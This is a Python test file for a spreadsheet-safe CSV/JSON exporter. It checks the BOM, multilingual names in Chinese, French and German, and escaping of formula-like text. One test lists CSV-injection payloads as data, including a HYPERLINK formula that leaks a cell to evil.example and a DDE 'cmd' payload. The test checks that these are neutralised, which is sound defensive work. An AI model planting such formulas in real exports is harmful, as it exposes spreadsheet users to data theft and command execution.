"""CSV and JSON files for spreadsheets: a BOM so Excel reads every script, formula-looking text kept as text,
names in Chinese (both scripts), French and German read back exactly by Python's csv module."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from bioatlas.tabular import BOM, FORMULA_START, safe_cell, to_csv, to_json

NAMES = [
    "上海罗氏制药",  # Simplified
    "創新科技及工業局",  # Traditional
    "Agence wallonne à l'Exportation et aux Investissements étrangers",
    "Münchner Biotech Cluster; „Straße“ & Söhne",
    'Ein "Name", mit Komma',
    "two\nlines",
]


def _read(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[len(BOM) :], newline="")))


def test_csv_starts_with_a_bom_and_reads_back_names_in_every_script() -> None:
    data = to_csv(({"name": n, "rank": i} for i, n in enumerate(NAMES, 1)), ("rank", "name"))
    assert data.startswith(BOM.encode("utf-8"))
    rows = _read(data)
    assert [r["name"] for r in rows] == NAMES
    assert [r["rank"] for r in rows] == [str(i) for i in range(1, len(NAMES) + 1)]
    assert data.decode("utf-8").splitlines()[0] == BOM + "rank,name"


def test_formula_like_text_is_kept_as_text() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    rows = _read(to_csv(({"name": h} for h in hostile), ("name",)))
    assert [r["name"] for r in rows] == ["'" + h for h in hostile]
    for r in rows:
        assert not r["name"].startswith(FORMULA_START)


def test_numbers_lists_and_missing_values() -> None:
    assert safe_cell(-2.5) == "-2.5"  # a negative amount is a number, not a formula
    assert safe_cell(8_000_000.0) == "8000000"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"
    assert safe_cell(["therapeutics", "=cmd", None]) == "therapeutics | =cmd"  # inside a cell, not at its start
    assert safe_cell(["=cmd", "x"]) == "'=cmd | x"


def test_columns_are_stable_whatever_the_rows() -> None:
    empty = _read(to_csv([], ("id", "name", "country")))
    assert empty == []
    assert to_csv([], ("id", "name", "country")).decode("utf-8") == BOM + "id,name,country\r\n"
    rows = _read(to_csv([{"name": "BioWin", "extra": "left out"}], ("id", "name")))
    assert rows == [{"id": "", "name": "BioWin"}]


def test_json_keeps_every_script_unescaped() -> None:
    payload = {"items": [{"name": n} for n in NAMES]}
    data = to_json(payload)
    assert "上海罗氏制药".encode() in data and "創新科技及工業局".encode() in data
    assert json.loads(data) == payload


@given(st.text(max_size=40))
def test_any_text_reads_back_as_written_or_with_one_protecting_apostrophe(text: str) -> None:
    text = text.replace("\r", "")  # csv normalises a lone CR inside quoted cells on some readers
    [row] = _read(to_csv([{"v": text}], ("v",)))
    expected = "'" + text if text.startswith(FORMULA_START) else text
    assert row["v"] == expected
